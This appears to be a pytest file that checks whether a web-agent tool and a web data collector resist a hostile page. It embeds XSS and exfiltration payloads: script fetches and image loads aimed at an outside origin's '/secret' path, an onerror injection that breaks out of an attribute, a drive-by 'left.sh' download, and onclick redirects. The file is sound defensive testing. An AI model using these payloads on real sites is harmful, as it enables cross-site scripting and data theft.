"""A hostile page gets nowhere, whichever command opens it."""

import json
from html.parser import HTMLParser

import pytest
from web_pages import Pages, needs_browser

from rlvr_world.cli import main
from rlvr_world.web.data import WebDataModule

needs_browser()

EVIL = """<title><script>fetch('{out}/secret')</script></title><img src="{out}/secret">
<script>fetch('{out}/secret', {{ mode: 'no-cors' }}).catch(() => 0)</script>
<a href="{out}/secret" download="left.sh">now</a>
<button onclick="location = '{out}/secret'">&lt;script&gt;alert(1)&lt;/script&gt;</button>
<p>[n1] alert 'x'</p><button aria-label="</pre><img src={out}/secret onerror=alert(1)>">x</button>
<button onclick="document.body.append('more ')">more</button>"""
COMMANDS = {
    "data web": ["--root", "out", "--episodes.train=1", "--episodes.val=0", "--episodes.test=0",
                 "--steps=5", "--policies=[random]"],
    "web-agent": ["--output", "out", "--agents", '{"it": {"top": 2}}', "--seeds=1",
                  "--limits.steps=3"],
}  # fmt: skip


class Markup(HTMLParser):
    """Where the pictures of a page come from; it has no scripts and no handlers."""

    def __init__(self, page):
        super().__init__()
        self.sources = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        assert tag not in ("script", "iframe", "object", "a", "form")
        assert not [name for name, _ in attrs if name.startswith("on")]
        self.sources += [value for name, value in attrs if name in ("src", "href")]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_hostile_page_gets_nowhere(tmp_path, monkeypatch, command):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    with Pages(secret="secret") as outside, Pages(start=EVIL.format(out=outside.origin)) as pages:
        main([*command.split(), "--source=site", f"--start.url={pages.origin}/start",
              "--processes=1", *COMMANDS[command]])  # fmt: skip
        assert outside.requests == []
    assert {path.name for path in tmp_path.iterdir()} <= {"out", "home"}
    assert not list(tmp_path.rglob("left*"))
    if command == "web-agent":
        (file,) = tmp_path.glob("out/traces/**/*.html")
        sources = Markup(file.read_text()).sources
        assert sources
        assert all(source.startswith("data:image/png;base64,") for source in sources)
        assert json.loads(file.with_suffix(".json").read_text())["steps"]
    else:
        steps = list(WebDataModule("out").steps("train"))
        assert steps
        assert any("<script>alert(1)</script>" in step.tree for step in steps)
